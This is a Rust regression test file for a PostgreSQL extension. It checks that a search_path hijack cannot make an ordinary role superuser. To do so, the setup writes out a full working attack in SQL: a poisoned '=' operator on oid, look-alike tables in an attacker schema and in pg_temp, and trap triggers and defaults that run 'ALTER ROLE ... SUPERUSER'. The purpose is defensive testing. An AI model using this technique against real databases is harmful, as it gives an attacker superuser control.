//! Attack class 1: becoming superuser through the extension-schema cache.
//!
//! The extension resolves its schema and owner once per backend, and qualifies every statement
//! it runs as the owner with that schema. It used to resolve them with an SQL query run under
//! the caller's `search_path` (`... JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace`).
//! An attacker who can create objects in some schema defines `=(oid, oid)` there, puts that
//! schema ahead of `pg_catalog`, and makes the first pg_assistant call of a fresh backend: the
//! join then picks the attacker's schema, and every later owner-context statement of that
//! backend writes the attacker's look-alike tables as the owner, firing the attacker's triggers
//! (`ALTER ROLE <attacker> SUPERUSER`). Temp look-alikes catch any unqualified name instead.
//!
//! What must happen instead: the lookup is native (by OID, no SQL), owner-context statements
//! run with `search_path = pg_catalog, pg_temp` and name the real schema. Whatever the first call
//! of the backend is (a function, a trigger, a trigger that fails, a completion), the attacker
//! stays an ordinary role, the trap tables record nothing, the real tables get the effect and
//! the look-alikes get nothing. The same holds with the extension in a non-default schema.

use pg_assistant_integration::postgres::Client;
use pg_assistant_integration::{
    as_user, assert_server_alive, ensure_ordinary_role, is_superuser, message, sqlstate, with_claims, TestDb,
};
use serde_json::json;
use uuid::Uuid;

/// Columns of the look-alikes: every column of the real tables the extension's statements
/// read or write, nullable, so that a misdirected statement would succeed (and commit).
const PROFILE_COLUMNS: &str = "id uuid, tenant_id uuid, email text, display_name text,
    total_completed_sessions int DEFAULT 0, weekly_completed_sessions int DEFAULT 0,
    weekly_started_sessions int DEFAULT 0, weekly_session_limit int, week_reset_date timestamptz,
    created_at timestamptz, updated_at timestamptz";
const SESSION_COLUMNS: &str = "id uuid, user_id uuid, scenario_id text, started_at timestamptz,
    is_completed boolean DEFAULT false, completed_at timestamptz, duration_seconds int,
    message_count_main int DEFAULT 0, message_count_helper int DEFAULT 0, updated_at timestamptz";
const MESSAGE_COLUMNS: &str = "id uuid, session_id uuid, user_id uuid, role text, chat_type text,
    content text, sent_at timestamptz, client_message_id uuid";
const LOG_COLUMNS: &str = "id bigint, session_id uuid, user_id uuid, level text, event text,
    message text, metadata jsonb, created_at timestamptz";

#[derive(Clone, Copy, PartialEq)]
enum Install {
    /// `CREATE EXTENSION pg_assistant` (schema public); the attacker's look-alikes in `evil_sl`.
    Public,
    /// `CREATE EXTENSION pg_assistant SCHEMA app`; the attacker's look-alikes in `public`.
    App,
}

struct Stage {
    db: TestDb,
    role: String,
    /// The extension's schema.
    ext: &'static str,
    /// The attacker's schema (look-alikes, the `=` operator, the trap).
    evil: &'static str,
    /// The caller's hostile search_path: the attacker's schema ahead of pg_catalog.
    search_path: &'static str,
    /// The attacker's own user (profile, one open and one completed session).
    user: Uuid,
    open_session: Uuid,
    done_session: Uuid,
}

/// A login role without SUPERUSER or BYPASSRLS; reset in case an earlier run's attack succeeded.
fn attacker(role: &str) {
    ensure_ordinary_role(role);
}

fn stage(test: &str, role: &str, install: Install) -> Stage {
    attacker(role);
    let db = TestDb::new(test);
    let (ext, evil, search_path) = match install {
        Install::Public => ("public", "evil_sl", "evil_sl, pg_catalog, public"),
        Install::App => ("app", "public", "public, pg_catalog"),
    };
    let mut su = db.superuser();
    if install == Install::App {
        su.batch_execute(
            "DROP EXTENSION pg_assistant; DROP EXTENSION citext;
             CREATE SCHEMA app;
             CREATE EXTENSION pg_assistant SCHEMA app CASCADE;",
        )
        .unwrap();
    }
    if install == Install::Public {
        su.batch_execute(&format!("CREATE SCHEMA {evil}")).unwrap();
    }
    su.batch_execute(&format!(
        "GRANT USAGE ON SCHEMA {ext} TO {role};
         GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA {ext} TO {role};
         GRANT USAGE, CREATE ON SCHEMA {evil} TO {role};
         INSERT INTO {ext}.scenarios (id, title) VALUES ('market', 'Marketplace');"
    ))
    .unwrap();
    let user = Uuid::new_v4();
    su.execute(&format!("SELECT {ext}.create_profile($1, 'attacker@example.com')"), &[&user]).unwrap();
    let mut sessions = Vec::new();
    for _ in 0..2 {
        let s: Uuid = su
            .query_one(&format!("INSERT INTO {ext}.sessions (user_id, scenario_id) VALUES ($1, 'market') RETURNING id"), &[&user])
            .unwrap()
            .get(0);
        sessions.push(s);
    }
    let (open_session, done_session) = (sessions[0], sessions[1]);
    su.execute(&format!("UPDATE {ext}.sessions SET is_completed = true WHERE id = $1"), &[&done_session]).unwrap();

    // The attacker's schema objects, created in a backend of their own (not the attack backend).
    let mut a = db.connect_as(role);
    let mut sql = format!(
        "CREATE TABLE {evil}.pwned (who name, via text);
         -- Poisons the old lookup: in `n.oid = e.extnamespace` only the attacker's schema matches.
         CREATE FUNCTION {evil}.oideq(oid, oid) RETURNS boolean LANGUAGE sql AS $f$
             SELECT $1 OPERATOR(pg_catalog.=) '{evil}'::pg_catalog.regnamespace::pg_catalog.oid
                 OR $2 OPERATOR(pg_catalog.=) '{evil}'::pg_catalog.regnamespace::pg_catalog.oid
         $f$;
         CREATE OPERATOR {evil}.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = {evil}.oideq);
         -- SECURITY INVOKER: whoever writes a look-alike runs this; if that is the owner, take over.
         CREATE FUNCTION {evil}.trap() RETURNS trigger LANGUAGE plpgsql AS $f$
         BEGIN
             IF current_user <> '{role}' THEN
                 INSERT INTO {evil}.pwned VALUES (current_user, TG_TABLE_SCHEMA || '.' || TG_TABLE_NAME || ' ' || TG_OP);
                 ALTER ROLE {role} SUPERUSER;
             END IF;
             IF TG_LEVEL = 'STATEMENT' THEN RETURN NULL; END IF;
             IF TG_OP = 'DELETE' THEN RETURN OLD; END IF;
             RETURN NEW;
         END $f$;
         CREATE TABLE {evil}.profiles ({PROFILE_COLUMNS});
         CREATE TABLE {evil}.sessions ({SESSION_COLUMNS});
         CREATE TABLE {evil}.messages ({MESSAGE_COLUMNS});
         CREATE TABLE {evil}.logs ({LOG_COLUMNS});"
    );
    for t in ["profiles", "sessions", "messages", "logs"] {
        sql.push_str(&format!(
            "CREATE TRIGGER trap_row BEFORE INSERT OR UPDATE OR DELETE ON {evil}.{t}
                 FOR EACH ROW EXECUTE FUNCTION {evil}.trap();
             CREATE TRIGGER trap_statement BEFORE INSERT OR UPDATE OR DELETE ON {evil}.{t}
                 FOR EACH STATEMENT EXECUTE FUNCTION {evil}.trap();"
        ));
    }
    // Rows mirroring the attacker's own, so that a misdirected lookup finds an open session and
    // a misdirected UPDATE has rows to change.
    sql.push_str(&format!(
        "INSERT INTO {evil}.profiles (id, email) VALUES ('{user}', 'attacker@example.com');
         INSERT INTO {evil}.sessions (id, user_id) VALUES ('{open_session}', '{user}'), ('{done_session}', '{user}');"
    ));
    a.batch_execute(&sql).unwrap();
    drop(a);

    let s = Stage { db, role: role.to_owned(), ext, evil, search_path, user, open_session, done_session };
    assert_trap_is_armed(&s);
    s
}

/// The trap works: when the owner writes a look-alike, the attacker becomes superuser (rolled back).
fn assert_trap_is_armed(s: &Stage) {
    let mut su = s.db.superuser();
    let mut tx = su.transaction().unwrap();
    tx.batch_execute(&format!("UPDATE {}.sessions SET message_count_main = message_count_main + 1", s.evil)).unwrap();
    let pwned: i64 = tx.query_one(&format!("SELECT count(*) FROM {}.pwned", s.evil), &[]).unwrap().get(0);
    let rolsuper: bool = tx.query_one("SELECT rolsuper FROM pg_roles WHERE rolname = $1", &[&s.role]).unwrap().get(0);
    assert!(pwned > 0 && rolsuper, "the trap should fire for the owner (pwned {pwned}, rolsuper {rolsuper})");
    tx.rollback().unwrap();
}

/// A fresh backend of the attacker, prepared for the attack: temp look-alikes whose default and
/// check call a `pg_temp` trap, then the hostile search_path. Nothing of pg_assistant has run in
/// it yet, so the caller's next statement is the backend's first pg_assistant call.
fn hostile_backend(s: &Stage) -> Client {
    let (role, evil, user) = (&s.role, s.evil, s.user);
    let trap = "trap boolean DEFAULT pg_temp.trap() CHECK (pg_temp.trap())";
    let mut c = s.db.connect_as(role);
    c.batch_execute(&format!(
        "CREATE FUNCTION pg_temp.trap() RETURNS boolean LANGUAGE plpgsql AS $f$
         BEGIN
             IF current_user <> '{role}' THEN
                 INSERT INTO {evil}.pwned VALUES (current_user, 'pg_temp look-alike');
                 ALTER ROLE {role} SUPERUSER;
             END IF;
             RETURN true;
         END $f$;
         CREATE TEMP TABLE profiles ({PROFILE_COLUMNS}, {trap});
         CREATE TEMP TABLE sessions ({SESSION_COLUMNS}, {trap});
         CREATE TEMP TABLE messages ({MESSAGE_COLUMNS}, {trap});
         CREATE TEMP TABLE logs ({LOG_COLUMNS}, {trap});
         INSERT INTO pg_temp.profiles (id, email) VALUES ('{user}', 'attacker@example.com');
         INSERT INTO pg_temp.sessions (id, user_id) VALUES ('{open}', '{user}'), ('{done}', '{user}');
         SET search_path = {path};",
        open = s.open_session,
        done = s.done_session,
        path = s.search_path,
    ))
    .unwrap();
    // Armed: the query the extension used to run now names the attacker's schema.
    let found: Vec<String> = c
        .query(
            "SELECT n.nspname::text FROM pg_catalog.pg_extension e
               JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace
              WHERE e.extname = 'pg_assistant'",
            &[],
        )
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(found, vec![evil.to_owned()], "the old lookup should be poisoned in the attack backend");
    c
}

/// The attacker is still an ordinary role, the traps recorded nothing, and every look-alike
/// (in the attacker's schema and in `attack`'s pg_temp) holds exactly what the attacker put there.
fn assert_no_takeover(s: &Stage, attack: &mut Client) {
    assert!(!is_superuser(&s.role), "{} became superuser", s.role);
    let mut su = s.db.superuser();
    let pwned: Vec<String> = su
        .query(&format!("SELECT who || ': ' || via FROM {}.pwned", s.evil), &[])
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert!(pwned.is_empty(), "the owner ran the attacker's code: {pwned:?}");
    let state = |schema: &str| {
        format!(
            "SELECT (SELECT count(*) FROM {schema}.profiles),
                    (SELECT coalesce(sum(total_completed_sessions + weekly_completed_sessions + weekly_started_sessions), 0)
                       FROM {schema}.profiles),
                    (SELECT count(*) FROM {schema}.sessions),
                    (SELECT count(*) FROM {schema}.sessions
                      WHERE is_completed OR message_count_main <> 0 OR message_count_helper <> 0),
                    (SELECT count(*) FROM {schema}.messages),
                    (SELECT count(*) FROM {schema}.logs)"
        )
    };
    for (who, client, schema) in [("schema", &mut su, s.evil), ("temp", attack, "pg_temp")] {
        let row = client.query_one(&state(schema), &[]).unwrap();
        let got: Vec<i64> = (0..6).map(|i| row.get(i)).collect();
        assert_eq!(got, vec![1, 0, 2, 0, 0, 0], "{who} look-alikes in {schema} were written");
    }
}

/// (total_completed_sessions, weekly_completed_sessions, weekly_started_sessions) of the real profile.
fn real_profile_counts(s: &Stage) -> (i32, i32, i32) {
    let row = s
        .db
        .superuser()
        .query_one(
            &format!(
                "SELECT total_completed_sessions, weekly_completed_sessions, weekly_started_sessions
                   FROM {}.profiles WHERE id = $1",
                s.ext
            ),
            &[&s.user],
        )
        .unwrap();
    (row.get(0), row.get(1), row.get(2))
}

fn real_message_count(s: &Stage, session: Uuid) -> (i32, i64) {
    let row = s
        .db
        .superuser()
        .query_one(
            &format!(
                "SELECT s.message_count_main, (SELECT count(*) FROM {ext}.messages m WHERE m.session_id = s.id AND m.user_id = s.user_id)
                   FROM {ext}.sessions s WHERE s.id = $1",
                ext = s.ext
            ),
            &[&session],
        )
        .unwrap();
    (row.get(0), row.get(1))
}

/// Claims of a signed-in user whose token vouches for `email` (what an ordinary caller of
/// `create_profile` needs).
fn verified(user: Uuid, email: &str) -> serde_json::Value {
    json!({ "sub": user.to_string(), "email": email, "role": "authenticated" })
}

/// First call: the profile creation. `_create_profile` is what an attacker calls (everyone may
/// execute it, and unlike the `create_profile` wrapper it keeps the caller's search_path); the
/// wrapper is tried too, in another fresh backend. The token carries the address's `email`
/// claim, without which an ordinary caller creates no profile at all.
fn first_call_creates_profile(s: &Stage) {
    let ext = s.ext;
    for (n, sql) in [
        (1, format!("SELECT {ext}._create_profile($1, $2, NULL)")),
        (2, format!("SELECT id FROM {ext}.create_profile($1, $2)")),
    ] {
        let newcomer = Uuid::new_v4();
        let email = format!("newcomer{n}@example.com");
        let mut c = hostile_backend(s);
        let mut tx = with_claims(&mut c, verified(newcomer, &email));
        let id: Uuid = tx.query_one(&sql, &[&newcomer, &email]).unwrap().get(0);
        tx.commit().unwrap();
        assert_eq!(id, newcomer);
        assert_no_takeover(s, &mut c);
        let stored: String = s
            .db
            .superuser()
            .query_one(&format!("SELECT email::text FROM {ext}.profiles WHERE id = $1"), &[&newcomer])
            .unwrap()
            .get(0);
        assert_eq!(stored, email, "{sql}: the profile belongs in {ext}.profiles");
    }
}

fn first_call_inserts_message(s: &Stage) {
    let before = real_message_count(s, s.open_session);
    let mut c = hostile_backend(s);
    let mut tx = as_user(&mut c, s.user);
    tx.execute(
        &format!("INSERT INTO {}.messages (session_id, role, chat_type, content) VALUES ($1, 'user', 'main', 'hello')", s.ext),
        &[&s.open_session],
    )
    .unwrap();
    tx.commit().unwrap();
    assert_no_takeover(s, &mut c);
    assert_eq!(real_message_count(s, s.open_session), (before.0 + 1, before.1 + 1), "the message is counted in {}.sessions", s.ext);
}

fn first_call_completes_session(s: &Stage, session: Uuid) {
    let (total, weekly, started) = real_profile_counts(s);
    let mut c = hostile_backend(s);
    let mut tx = as_user(&mut c, s.user);
    let n = tx.execute(&format!("UPDATE {}.sessions SET is_completed = true WHERE id = $1", s.ext), &[&session]).unwrap();
    tx.commit().unwrap();
    assert_eq!(n, 1);
    assert_no_takeover(s, &mut c);
    assert_eq!(real_profile_counts(s), (total + 1, weekly + 1, started), "the completion is counted in {}.profiles", s.ext);
    let stamped: bool = s
        .db
        .superuser()
        .query_one(&format!("SELECT completed_at IS NOT NULL FROM {}.sessions WHERE id = $1", s.ext), &[&session])
        .unwrap()
        .get(0);
    assert!(stamped);
}

#[test]
fn profile_creation_as_first_call_ignores_a_hostile_search_path() {
    let s = stage("atk_sl_profile", "pga_atk_sl_profile", Install::Public);
    first_call_creates_profile(&s);
}

#[test]
fn triggers_as_first_call_ignore_a_hostile_search_path() {
    let s = stage("atk_sl_trigger", "pga_atk_sl_trigger", Install::Public);
    // A message: the session lookup and the message count run as the owner.
    first_call_inserts_message(&s);
    // A new session: the weekly started-sessions counter is bumped as the owner.
    let (total, weekly, started) = real_profile_counts(&s);
    let mut c = hostile_backend(&s);
    let mut tx = as_user(&mut c, s.user);
    tx.execute("INSERT INTO public.sessions (user_id, scenario_id) VALUES ($1, 'market')", &[&s.user]).unwrap();
    tx.commit().unwrap();
    assert_no_takeover(&s, &mut c);
    assert_eq!(real_profile_counts(&s), (total, weekly, started + 1));
}

#[test]
fn a_failing_first_call_leaves_the_backend_sound() {
    let s = stage("atk_sl_failing", "pga_atk_sl_failing", Install::Public);
    let before = real_message_count(&s, s.open_session);

    // First call: a trigger that refuses (the session is completed).
    let mut c = hostile_backend(&s);
    let mut tx = as_user(&mut c, s.user);
    let err = tx
        .execute("INSERT INTO public.messages (session_id, role, chat_type, content) VALUES ($1, 'user', 'main', 'late')", &[&s.done_session])
        .unwrap_err();
    assert_eq!(sqlstate(&err), "P0001", "{err}");
    assert_eq!(message(&err), format!("cannot add messages to completed session {}", s.done_session));
    tx.rollback().unwrap();
    assert_server_alive();
    // The backend is the attacker's again, with their search_path, and the next statement does
    // the right thing.
    let row = c.query_one("SELECT current_user::text, pg_catalog.current_setting('search_path')", &[]).unwrap();
    assert_eq!((row.get::<_, String>(0), row.get::<_, String>(1)), (s.role.clone(), s.search_path.to_owned()));
    let mut tx = as_user(&mut c, s.user);
    tx.execute("INSERT INTO public.messages (session_id, role, chat_type, content) VALUES ($1, 'user', 'main', 'on time')", &[&s.open_session])
        .unwrap();
    tx.commit().unwrap();
    assert_no_takeover(&s, &mut c);
    assert_eq!(real_message_count(&s, s.open_session), (before.0 + 1, before.1 + 1));
    let done: i32 = s
        .db
        .superuser()
        .query_one("SELECT message_count_main FROM public.sessions WHERE id = $1", &[&s.done_session])
        .unwrap()
        .get(0);
    assert_eq!(done, 0);

    // First call failing inside the owner context itself: the attacker's profile exists already
    // (the insert as the owner fails on the primary key).
    let mut c = hostile_backend(&s);
    let mut tx = with_claims(&mut c, verified(s.user, "second@example.com"));
    let err = tx.query_one("SELECT public._create_profile($1, 'second@example.com', NULL)", &[&s.user]).unwrap_err();
    assert_eq!(sqlstate(&err), "23505", "{err}");
    tx.rollback().unwrap();
    assert_server_alive();
    let row = c.query_one("SELECT current_user::text, pg_catalog.current_setting('search_path')", &[]).unwrap();
    assert_eq!((row.get::<_, String>(0), row.get::<_, String>(1)), (s.role.clone(), s.search_path.to_owned()));
    let newcomer = Uuid::new_v4();
    let mut tx = with_claims(&mut c, verified(newcomer, "second.try@example.com"));
    tx.query_one("SELECT public._create_profile($1, 'second.try@example.com', NULL)", &[&newcomer]).unwrap();
    tx.commit().unwrap();
    assert_no_takeover(&s, &mut c);
    let stored: i64 = s
        .db
        .superuser()
        .query_one("SELECT count(*) FROM public.profiles WHERE id = $1 AND email = 'second.try@example.com'", &[&newcomer])
        .unwrap()
        .get(0);
    assert_eq!(stored, 1);
}

#[test]
fn completion_as_first_call_updates_the_real_profile() {
    let s = stage("atk_sl_completion", "pga_atk_sl_completion", Install::Public);
    first_call_completes_session(&s, s.open_session);
}

/// Installed in `app`: the look-alikes live in `public`, which the attacker can write, and the
/// caller's search_path does not name `app` at all.
#[test]
fn non_default_schema_install_ignores_look_alikes_in_public() {
    let s = stage("atk_sl_app_schema", "pga_atk_sl_app", Install::App);
    first_call_creates_profile(&s);
    first_call_inserts_message(&s);
    first_call_completes_session(&s, s.open_session);
    let schema: String = s
        .db
        .superuser()
        .query_one("SELECT extnamespace::regnamespace::text FROM pg_extension WHERE extname = 'pg_assistant'", &[])
        .unwrap()
        .get(0);
    assert_eq!(schema, "app");
}
